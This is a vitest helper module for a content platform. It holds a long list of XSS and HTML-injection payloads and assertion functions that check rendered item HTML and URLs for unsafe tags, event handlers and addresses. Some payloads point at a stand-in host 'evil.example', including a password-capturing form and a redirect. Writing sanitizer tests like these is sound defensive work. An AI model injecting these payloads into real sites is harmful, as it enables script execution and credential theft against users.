import { expect } from 'vitest';
import type { BuiltItem } from '../built-item.ts';

/** Markup that would run a script, load something or take over ids, in all known ways. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`x` onerror=alert(1)//`>',
  '<b onclick=alert(1)>x</b>',
  '<p onmouseover="alert(1)" onfocus=alert(1) tabindex=0>x</p>',
  '<a href="https://example.com" onpointerdown=alert(1)>x</a>',
  '<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>',
  '<iframe src="https://player.vimeo.com/video/1%22onload=alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/%22%3E%3Cb%3Eabcde"></iframe>',
  '<iframe src="https://players.brightcove.net/1/x/index.html?videoId=1%22x" onload=alert(1)></iframe>',
  '<svg onload=alert(1)><g onclick=alert(1)>x</g></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](y.png)',
  '[x](https://example.com/"onmouseover="alert(1))',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div id="root" class="modal">x</div>',
  '<a name="config" id="root">x</a>',
  '<form id=a><input name=attributes></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x-foo onclick=alert(1)>x</x-foo>',
  '<button data-copy onclick=alert(1)>x</button>',
  '<div class="video-embed" data-provider="vimeo" data-video-id="javascript:1">x</div>',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '```<script>alert(1)</script>\nx\n```',
  'a|<script>alert(1)</script>\n-|-\n<img src=x onerror=alert(1)>|b',
  '<table><td><script>alert(1)</script></table>',
  '# <img src=x onerror=alert(1)>',
  '<a href="https://example.com" target=_top rel=opener>x</a>',
];

/** Browsers drop tabs and line breaks and read a backslash as a slash: addresses must not contain any of them. */
export const ALLOWED_HREF = /^(?!.*[\\\t\r\n])(?:https:\/\/|mailto:|\/(?!\/)|\.{1,2}\/|#c-|#$)/s;

/** Splits HTML into tags like a browser: quoted values are values, never markup. */
function tagsOf(html: string): { name: string; attributes: Map<string, string> }[] {
  const tags = html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*>/g);
  return [...tags].map(([, name = '', rest = '']) => ({
    name,
    attributes: new Map(
      [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }));
}

export function expectHarmless(html: string): void {
  // Every `<` that does not begin one of our tags is escaped, so the pattern below finds all tags.
  const rest = html.replace(/<\/?[a-z][a-z0-9]*(?:\s+[^\s=>]+(?:="[^"]*")?)*\s*>/g, '');
  expect(rest).not.toContain('<');
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).not.toMatch(
      /^(?:script|style|iframe|object|embed|form|input|meta|base|link|svg|math|template|textarea|video)$/,
    );
    for (const [key, value] of attributes) {
      expect(key).not.toMatch(/^on|^style$|^srcdoc$|^action$|^formaction$/);
      if (key === 'href' || key.startsWith('data-href')) expect(value).toMatch(ALLOWED_HREF);
      if (key === 'srcset') expect(value).toMatch(/^(?:\/assets\/content\/[0-9a-f]{64}\.\w+ \d+w(?:, |$))+$/);
      if (key === 'src') expect(value).toMatch(/^\/assets\/content\/[0-9a-f]{64}\.\w+$/);
      if (key === 'id' || key === 'name') expect(value).toMatch(/^c-/);
      if (key === 'target') expect(attributes.get('rel')).toBe('noopener noreferrer');
      if (key === 'data-video-id') expect(value).toMatch(/^[\w-]+$/);
    }
  }
}

/** Fields whose values are HTML. */
const HTML_FIELDS = new Set([
  'html',
  'summary',
  'bio',
  'conclusion',
  'transcript',
  'preview',
  'intro',
  'closing',
  'passMessage',
  'failMessage',
  'question',
  'hint',
  'explanation',
  'comment',
]);
const ADDRESS_FIELDS = new Set([
  'url',
  'src',
  'labUrl',
  'avatar',
  'thumbnail',
  'website',
  'github',
  'linkedin',
  'twitter',
  'redirect',
]);

/** Checks that all HTML and addresses of an item are safe for readers. */
export function expectItemHarmless(item: BuiltItem): void {
  walk(item, '', false);
}

function walk(value: unknown, field: string, inCheck: boolean): void {
  if (Array.isArray(value)) for (const one of value) walk(one, field, inCheck);
  else if (typeof value === 'object' && value !== null) {
    // Clickable actions are settings for the lab engines, and the search index is plain text: never markup.
    for (const [name, inner] of Object.entries(value)) {
      if (name !== 'actions' && name !== 'search') walk(inner, name, inCheck || name === 'knowledgeCheck');
    }
  } else if (typeof value === 'string') {
    if (HTML_FIELDS.has(field) || (inCheck && field === 'description')) expectHarmless(value);
    if (ADDRESS_FIELDS.has(field) && value !== '') expect(value).toMatch(ALLOWED_HREF);
  }
}
